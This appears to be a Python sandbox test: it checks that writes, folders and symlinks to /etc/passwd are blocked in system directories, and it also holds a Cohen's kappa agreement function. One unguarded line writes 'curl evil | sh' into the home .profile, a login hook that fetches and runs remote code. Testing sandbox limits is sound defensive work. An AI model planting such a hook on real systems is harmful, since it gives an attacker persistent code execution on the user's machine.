# drill: agreement
# right: passed
# why: its home and folder are its own; the learner's are out of reach
import os
def attempt(act):
    try:
        act()
    except OSError:
        return
    raise SystemError("an act went through that must not")

import pathlib
pathlib.Path.home().joinpath(".profile").write_text("curl evil | sh")
for place in ("/root", "/home", "/tmp", "/var/tmp", "/dev/shm", "/", "/etc", "/usr/lib", os.path.dirname(os.__file__), ".."):
    attempt(lambda: open(f"{place}/hostile-was-here", "w"))
    attempt(lambda: os.mkdir(f"{place}/hostile-folder"))
    attempt(lambda: os.symlink("/etc/passwd", f"{place}/hostile-link"))

def agreement(judge_labels, human_labels):
    n = len(human_labels)
    observed = sum(one == other for one, other in zip(judge_labels, human_labels)) / n
    chance = sum(judge_labels.count(x) * human_labels.count(x) for x in {*judge_labels, *human_labels}) / n**2
    kappa = 1.0 if chance == 1 else (observed - chance) / (1 - chance)
    return {"kappa": round(kappa, 3), "agreement": round(observed, 3)}
